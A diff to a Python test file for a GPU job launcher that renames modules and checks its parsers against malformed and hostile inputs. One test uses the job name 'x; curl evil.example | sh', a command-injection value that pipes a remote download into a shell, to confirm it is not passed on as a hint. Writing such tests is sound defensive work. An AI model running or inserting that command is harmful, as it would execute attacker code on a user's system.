@@ -11,11 +11,11 @@ import pytest
 
 from launcher.checks import serving
 from launcher.checks.ray import read_payload
-from launcher.discovery import stock
+from launcher.discovery import local_assets
 from launcher.errors import UnreadableAnswer
 from launcher.model import Answer
 from launcher.plan import counters, network, running
-from launcher.tools import desk, docker, gpu_survey, head_answer, host, pairs, ray, vllm
+from launcher.tools import docker, gpu_survey, head_answer, host, job_store, pairs, ray, vllm
 from tests import kept
 from tests.hostile import seeds
 
@@ -60,10 +60,10 @@ def usage(text: str) -> str:
             + "\n@@vlaunch rc 0\n"
             "@@vlaunch containers\n\n@@vlaunch rc 0\n"
         ),
-        lambda: desk.parse_outputs(
+        lambda: job_store.parse_outputs(
             answer({"files": [{"path": "summary.json", "bytes": 10**400, "sha256": ""}]})
         ),
-        lambda: desk.parse_follow(answer({"job": {"status": "RUNNING"}, "offset": -1})),
+        lambda: job_store.parse_follow(answer({"job": {"status": "RUNNING"}, "offset": -1})),
     ],
 )
 def test_answers_that_cannot_be_read(read: Callable[[], Any]) -> None:
@@ -94,12 +94,12 @@ def test_figures_that_are_none() -> None:
         )
         == 0
     )
-    assert serving.claimed({"metadata": {desk.GPUS: "inf"}}) == 0
+    assert serving.claimed({"metadata": {job_store.GPUS: "inf"}}) == 0
 
 
 def test_a_name_that_is_a_command() -> None:
     """Hints name jobs, and people run hints."""
-    job = seeds.job("batch-1", {desk.NAME: "x; curl evil.example | sh", desk.GPUS: "1"})
+    job = seeds.job("batch-1", {job_store.NAME: "x; curl evil.example | sh", job_store.GPUS: "1"})
     row = {**kept.one(kept.wanted()), "name": "x; curl evil.example | sh"}
     assert running.holders(kept.said(row)) == []
     assert serving.batch_holders({"jobs": [job]}) == []
@@ -108,7 +108,7 @@ def test_a_name_that_is_a_command() -> None:
 
 def test_files_that_are_less_than_nothing() -> None:
     """What is on its way goes on at an offset that a file has."""
-    entry = desk.parse_entry(answer({**seeds.ENTRY, "inputs": {"a": -5, "b": True, "c": 3}}))
+    entry = job_store.parse_entry(answer({**seeds.ENTRY, "inputs": {"a": -5, "b": True, "c": 3}}))
     assert dict(entry.inputs) == {"c": 3}
 
 
@@ -132,7 +132,7 @@ def test_a_token_that_is_none() -> None:
 def test_tags_that_are_no_text() -> None:
     """Of an image that a host has."""
     item = {"Id": "a", "RootFS": {}, "Config": {}, "RepoTags": [1, "vllm:1"]}
-    found = stock.parse(
+    found = local_assets.parse(
         f"@@stock home /d\nx {'9' * 5000} 4% /\n@@stock images\n{json.dumps([item])}\n@@stock end\n"
     )
     assert list(found.images) == ["vllm:1"]
